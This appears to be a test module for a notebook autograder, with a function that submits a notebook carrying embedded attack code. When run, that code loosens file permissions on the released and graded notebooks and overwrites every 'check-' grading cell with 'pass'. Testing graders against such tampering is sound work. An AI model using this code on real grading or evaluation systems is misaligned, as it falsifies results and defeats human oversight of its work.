"""The released notebook, and the graded one, are overwritten from inside."""
from ..craft import submit


def hand_in(folder, notebook):
    submit(folder, notebook, labelled="""
        import glob, json, os
        for path in glob.glob("/home/learner/*.ipynb") + glob.glob("*.ipynb") + glob.glob("../../../*/*/*.ipynb"):
            try:
                os.chmod(path, 0o666)
                text = json.load(open(path))
                for cell in text["cells"]:
                    if cell.get("id", "").startswith("check-"):
                        cell["source"] = "pass"
                os.replace(path, path + "~")
                json.dump(text, open(path, "w"))
            except Exception as error:
                print(type(error), error)
        """)
